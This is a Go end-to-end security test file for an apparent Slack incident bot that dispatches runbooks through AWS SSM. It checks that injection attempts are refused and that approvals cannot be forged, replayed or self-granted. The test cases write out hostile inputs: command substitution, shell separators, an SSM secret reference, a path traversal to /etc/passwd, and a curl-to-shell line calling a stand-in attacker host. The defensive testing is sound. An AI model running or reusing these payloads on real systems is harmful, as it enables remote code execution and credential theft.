package e2e

import (
	"encoding/json"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/tocsin-dev/tocsin/incident"
)

// TestSecurity_RunbookInjection: shell, SSM-reference and parameter
// injection through a signed /incident runbook command is refused with an
// ephemeral sentence; nothing reaches the SSM stand-in; each attempt that
// names a runbook is on the timeline. (runbooks' inputs_test.go and
// check_test.go cover Validate and the shell rule; bot's parse_test.go the
// parser.)
func TestSecurity_RunbookInjection(t *testing.T) {
	s := startSecStack(t)
	ch := s.openIncident(t, "m-inj", "api-5xx", "API errors", "api")
	cases := []struct {
		text string
		sync bool // refused by the parser at once, before dispatch
	}{
		{"runbook restart-unit unit=$(reboot)", false},
		{`runbook restart-unit unit="nginx.service; reboot"`, false},
		{"runbook restart-unit unit=nginx.service&amp;&amp;reboot", false}, // && as Slack sends it
		{"runbook restart-unit unit=`reboot`", false},
		{"runbook restart-unit unit=nginx.service|sh", false},
		{"runbook restart-unit unit={{ssm:/prod/db-password}}", false},
		{"runbook restart-unit unit=<https://evil.example|nginx.service>", false},
		{"runbook restart-unit unit=nginx.service commands=reboot", false},
		{"runbook restart-unit unit=nginx.service\x00", false},
		{"runbook restart-ecs-service cluster=prod;reboot service=api", false},
		{"runbook restart-ecs-service cluster=prod service=$(curl${IFS}evil.example|sh)", false},
		{"runbook restart-ecs-service cluster=../../prod service=api", false},
		{"runbook AWS-RunShellScript commands=reboot", false},
		{"runbook ../../etc/passwd", true},
		{"runbook restart-unit $(reboot)", true},
	}
	async := 0
	for i, c := range cases {
		reply := "inj-" + string(rune('a'+i))
		code, body := s.slash(t, secRequester, ch, c.text, reply)
		if code != http.StatusOK || !strings.Contains(body, `"response_type":"ephemeral"`) {
			t.Fatalf("%q: %d %s", c.text, code, body)
		}
		if c.sync {
			if strings.Contains(body, "Working on it") {
				t.Errorf("%q: accepted by the parser: %s", c.text, body)
			}
			continue
		}
		async++
		got := s.waitReply(t, reply)
		if !strings.HasPrefix(got, "Not run: ") {
			t.Errorf("%q: reply %q, want a refusal", c.text, got)
		}
		for _, p := range s.sl.ResponseURLPosts() {
			if p.ID == reply && p.ResponseType != "ephemeral" {
				t.Errorf("%q: the refusal was posted %s, want ephemeral", c.text, p.ResponseType)
			}
		}
	}
	refused := s.events(t, func(e incident.Event) bool {
		return e.Type == incident.EventRunbook && e.Data["step"] == "refused"
	})
	if len(refused) != async {
		t.Errorf("refused attempts on the timeline = %d, want %d", len(refused), async)
	}
	if n := s.ssmSends(); n != 0 || len(s.ssm.Commands()) != 0 {
		t.Errorf("SSM received %d sends, want none", n)
	}
}

// TestSecurity_ApprovalRules: approval is decided from the signed user.id
// only. A forged click (bad signature) and a replay of an accepted click
// are refused at the door; the requester approving their own run and a
// bystander clicking Approve (whose payload's user name and message text
// claim to be the approver) are refused on the timeline; a bystander may
// not deny either. The approver's click runs the plan once. (runbooks'
// approval_test.go and dispatch's runbook_test.go cover the policy.)
func TestSecurity_ApprovalRules(t *testing.T) {
	s := startSecStack(t)
	ch := s.openIncident(t, "m-appr", "api-5xx", "API errors", "api")
	if code, _ := s.slash(t, secRequester, ch, "runbook restart-unit unit=nginx.service", "request"); code != 200 {
		t.Fatal("request refused")
	}
	if got := s.waitReply(t, "request"); !strings.HasPrefix(got, "Asked for approval") {
		t.Fatalf("request reply %q", got)
	}
	runID, blockID := approvalButton(t, s, ch)
	refusals := func() int {
		return len(s.events(t, func(e incident.Event) bool { return e.Data["refused"] == "approval" }))
	}
	approvals := func() int {
		return len(s.events(t, func(e incident.Event) bool { return e.Type == incident.EventRunbook && e.Data["step"] == "approved" }))
	}

	forged := s.clickForm(secApprover, ch, "tocsin_approve", blockID, runID, "forged")
	if code, _, _ := s.signedPost(t, "/slack/interactions", forged, "guessed-secret", time.Now()); code != http.StatusUnauthorized {
		t.Errorf("forged click: status %d, want 401", code)
	}
	if code, _, _ := s.signedPost(t, "/slack/interactions", forged, "", time.Now()); code != http.StatusUnauthorized {
		t.Errorf("unsigned click: status %d, want 401", code)
	}
	for i, who := range []string{secRequester, secBystander} {
		reply := "refused-" + who
		code, _, _ := s.signedPost(t, "/slack/interactions", s.clickForm(who, ch, "tocsin_approve", blockID, runID, reply), secSigning, time.Now())
		if code != 200 {
			t.Fatalf("%s click: status %d", who, code)
		}
		if got := s.waitReply(t, reply); !strings.HasPrefix(got, "Your approval was not counted") {
			t.Errorf("%s: reply %q", who, got)
		}
		waitFor(t, "the refusal on the timeline", func() bool { return refusals() == i+1 })
	}
	code, _, _ := s.signedPost(t, "/slack/interactions", s.clickForm(secBystander, ch, "tocsin_deny", blockID, runID, "deny"), secSigning, time.Now())
	if got := s.waitReply(t, "deny"); code != 200 || !strings.HasPrefix(got, "Only an approver or the requester") {
		t.Errorf("bystander deny: %d %q", code, got)
	}
	if n := approvals(); n != 0 || s.ssmSends() != 0 {
		t.Fatalf("before the approver clicked: %d approvals, %d SSM sends; want none", n, s.ssmSends())
	}

	good := s.clickForm(secApprover, ch, "tocsin_approve", blockID, runID, "approve")
	code, _, h := s.signedPost(t, "/slack/interactions", good, secSigning, time.Now())
	if code != 200 {
		t.Fatalf("approver click: %d", code)
	}
	waitFor(t, "the command in SSM", func() bool { return s.ssmSends() == 1 })
	if code, _, _ := secDo(t, "POST", s.base+"/slack/interactions", h, good); code != http.StatusUnauthorized {
		t.Errorf("replayed approval: status %d, want 401", code)
	}
	time.Sleep(500 * time.Millisecond)
	cmds := s.ssm.Commands()
	if len(cmds) != 1 || s.ssmSends() != 1 || approvals() != 1 {
		t.Fatalf("after the approval and its replay: %d commands, %d sends, %d approvals; want 1 each", len(cmds), s.ssmSends(), approvals())
	}
	if got := cmds[0].Parameters["commands"]; !slices.Equal(got, []string{"systemctl restart nginx.service"}) || cmds[0].Document != "AWS-RunShellScript" {
		t.Errorf("SSM got %s %q; want exactly the approved plan", cmds[0].Document, got)
	}
	ev := s.events(t, func(e incident.Event) bool { return e.Type == incident.EventRunbook && e.Data["step"] == "approved" })
	if ev[0].Actor != secApprover {
		t.Errorf("approval recorded for %q, want the signed user %s", ev[0].Actor, secApprover)
	}
}

// approvalButton waits for the approval request in the channel and returns
// the run id and block id of its Approve button.
func approvalButton(t *testing.T, s *secStack, ch string) (runID, blockID string) {
	t.Helper()
	waitFor(t, "the approval request", func() bool {
		for _, m := range s.sl.Messages(ch) {
			var blocks []struct {
				BlockID  string `json:"block_id"`
				Elements []struct {
					ActionID string `json:"action_id"`
					Value    string `json:"value"`
				} `json:"elements"`
			}
			json.Unmarshal(m.Blocks, &blocks)
			for _, b := range blocks {
				for _, e := range b.Elements {
					if e.ActionID == "tocsin_approve" {
						runID, blockID = e.Value, b.BlockID
						return true
					}
				}
			}
		}
		return false
	})
	return runID, blockID
}
